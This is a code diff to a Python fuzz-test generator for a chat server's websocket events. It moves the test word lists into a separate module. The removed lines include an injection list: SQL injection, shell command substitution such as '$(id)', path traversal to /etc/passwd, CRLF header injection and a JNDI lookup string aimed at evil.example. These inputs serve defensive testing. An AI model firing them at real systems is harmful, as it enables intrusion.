@@ -14,11 +14,11 @@ from collections.abc import Iterator
 
 from .markup import STRINGS
 from .names_for_now import NAMES
+from .words import BROKEN, FORBIDDEN, IDS, INJECTIONS, LITERALS, NUMBERS, PLACES, STRANGE, TEXTS
 
 SEED = 20261125
 PACKETS = 6000
 
-LONGEST = 64 * 1024  # bytes in a frame
 DEPTHS = (31, 33, 500, 5000)
 
 # A payload of each event that would be granted in the room "den", to be spoilt; a text is spoilt from
@@ -31,112 +31,6 @@ SOUND = {
     "history": {"before": 9, "room": "den", "limit": 5},
     "sync": {"since": 0, "room": "den", "limit": 5},
 }
-FORBIDDEN = ["connect", "disconnect", "*", "", "error", "message_updated", "user_joined", "json"]
-STRANGE = [
-    "__proto__",
-    "constructor",
-    "toString",
-    "hasOwnProperty",
-    "__class__",
-    "__init__",
-    "then",
-]
-STRANGE += ["sid", "self", "chatroom", "connection", "user_id", "callback", "broadcast", "to"]
-
-NUMBERS = [
-    "-1",
-    "-0",
-    "-0.0",
-    "1.5",
-    "1e3",
-    "1e400",
-    "-1e400",
-    "9" * 17,
-    "9" * 101,
-    "9007199254740992",
-]
-NUMBERS += [
-    "NaN",
-    "Infinity",
-    "-Infinity",
-    "0x10",
-    "01",
-    "1_000",
-    "+1",
-    ".5",
-    "1e",
-    "٣",
-    "18446744073709551616",
-]
-LITERALS = [
-    "null",
-    "true",
-    "false",
-    "[]",
-    "{}",
-    "undefined",
-    "None",
-    "''",
-    '""',
-    "[[]]",
-    "{{}}",
-    "/**/1",
-]
-TEXTS = [
-    '"\\ud800"',
-    '"\\udfff x"',
-    '"\\u0000"',
-    '"a\\u0000b"',
-    '"\\x41"',
-    '"\\"',
-    '"',
-    '"\n"',
-    '"\t',
-]
-TEXTS += [json.dumps(text) for text in (" \t\n ", "\u200b", "\u2060\ufeff", "\u3164", "\u2800" * 9)]
-TEXTS += [
-    json.dumps("x" * 2001),
-    json.dumps("🐟" * 2001, ensure_ascii=False),
-    json.dumps(" " * 9000),
-]
-INJECTIONS = [
-    "'; DROP TABLE message; --",
-    "' OR 1=1 --",
-    "$(id)",
-    "`id`",
-    "%s%n%x",
-    "{0.__class__}",
-]
-INJECTIONS += [
-    "../../etc/passwd",
-    "..%2f..%2f",
-    "%00",
-    "\r\nSet-Cookie: chatroom=x",
-    "\x1b[2J\x1b]0;x\x07",
-]
-INJECTIONS += [
-    "${jndi:ldap://evil.example/x}",
-    "{{7*7}}",
-    "*)(uid=*",
-    "den\nINFO forged line",
-    "\u202egpj.exe",
-]
-PLACES = [
-    "",
-    "",
-    "",
-    "",
-    "/",
-    "/,",
-    "/admin,",
-    "/?x=1,",
-    "//,",
-    "/\u202e,",
-    "0-",
-    "1-",
-    "99999999-",
-]
-IDS = ["", "0", "7", "007", "9" * 15, "9" * 16, "9" * 400, "-1", "1.5", "٣"]
 
 
 def packets(room: str, count: int = PACKETS, seed: int = SEED) -> list[str]:
@@ -178,7 +72,7 @@ def wrong(chance: random.Random) -> tuple[str, str]:
     key = chance.choice(list(members))
     match chance.randrange(7):
         case 0:
-            members[key] = chance.choice([*NUMBERS, *LITERALS[:6], *TEXTS[:9], nested(chance)])
+            members[key] = chance.choice([*NUMBERS, *LITERALS[:6], *BROKEN, nested(chance)])
             if members[key] in ("true", "false", "-0"):
                 members[key] = "7.5"
         case 1:
@@ -241,7 +135,7 @@ def shapeless(chance: random.Random) -> str:
     values = [
         *NUMBERS,
         *LITERALS,
-        *TEXTS[:9],
+        *BROKEN,
         '["message"',
         "[7]",
         "[[]]",
